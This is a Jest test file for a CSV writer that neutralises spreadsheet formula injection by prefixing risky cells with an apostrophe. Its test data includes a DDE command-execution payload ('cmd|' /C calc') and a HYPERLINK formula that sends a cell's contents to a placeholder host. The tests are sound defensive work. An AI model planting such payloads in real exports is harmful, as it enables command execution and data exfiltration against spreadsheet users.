import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvLine } from './csv.js';

const cellOf = (text: string) => csvLine([text]).slice(0, -2);

describe('a cell', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+33 3 21', `"'+33 3 21"`],
    ['-2+3', `"'-2+3"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['=HYPERLINK("http://example.test?x="&A1,"Erreur")', `"'=HYPERLINK(""http://example.test?x=""&A1,""Erreur"")"`],
    ['\t=1', `"'\t'=1"`],
    ['\r=1', `"'\r'=1"`],
    ['\n=1', `"'\n'=1"`],
    ['\tun onglet', `"'\tun onglet"`],
    [' =1', `"' =1"`],
    ['"=1', `"'""=1"`],
    ["'=1", `"''=1"`],
    [' " \' =1', `"' "" ' =1"`],
    ['\u00a0=1', `"'\u00a0=1"`],
    ['＝1+1', `"'＝1+1"`],
    ['un titre;=1+1', `"un titre;'=1+1"`],
    ['un titre; "=1+1', `"un titre;' ""=1+1"`],
  ])('that a spreadsheet would compute is text: %j', (text, written) => {
    expect(cellOf(text)).toBe(written);
  });

  it.each([
    ['Le cours ne s’ouvre plus', '"Le cours ne s’ouvre plus"'],
    ['a=b', '"a=b"'],
    ['un; deux', '"un; deux"'],
    ['dit "non", puis part', '"dit ""non"", puis part"'],
    ['deux\r\nlignes', '"deux\r\nlignes"'],
  ])('that is none stays as it is: %j', (text, written) => {
    expect(cellOf(text)).toBe(written);
  });

  it('begins like no formula, whatever it holds', () => {
    const nasty = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ';', ',', 'a'),
    });
    fc.assert(
      fc.property(nasty, (text) => {
        const inside = cellOf(text).slice(1, -1).replaceAll('""', '"');
        for (const part of [inside, ...inside.split(/[;\t\r\n]/).slice(1)]) {
          expect(part.replace(/^[ "]*/, '')).not.toMatch(/^[=+\-@]/);
        }
        expect(inside).not.toMatch(/^[\t\r\n]/);
        // every quote inside is doubled, so that the cell ends where it should
        expect(cellOf(text)).toMatch(/^"(?:[^"]|"")*"$/);
      }),
    );
  });
});

it('writes numbers and truths bare, and nothing for nothing', () => {
  expect(csvLine(['a', -1, true, null])).toBe('"a",-1,true,\r\n');
});
